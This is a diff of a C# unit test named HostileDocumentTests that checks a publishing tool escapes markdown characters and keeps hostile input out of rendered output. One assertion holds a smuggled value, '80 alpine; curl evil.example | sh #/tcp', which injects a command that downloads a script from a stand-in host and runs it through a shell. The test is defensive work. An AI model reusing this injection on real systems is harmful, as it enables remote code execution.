@@ -56,7 +56,7 @@ public sealed class HostileDocumentTests
         Assert.DoesNotContain("curl", string.Join('\n', lines), StringComparison.Ordinal);
         Assert.DoesNotContain("curl", page, StringComparison.Ordinal);
         Assert.Contains("80 alpine; curl evil.example | sh #/tcp", result.Image.Config.Config!.ExposedPorts!);
-        Assert.StartsWith("### A&#95;b&#60;i&#62;&#124;\\u000a\n\n| | |\n", PublishMarkdown.Of("A_b<i>|\n", result), StringComparison.Ordinal);
+        Assert.StartsWith("### A&#95;b&#60;i&#62;&#124;&#92;u000a\n\n| | |\n", PublishMarkdown.Of("A_b<i>|\n", result), StringComparison.Ordinal);
     }
 
     [Theory]
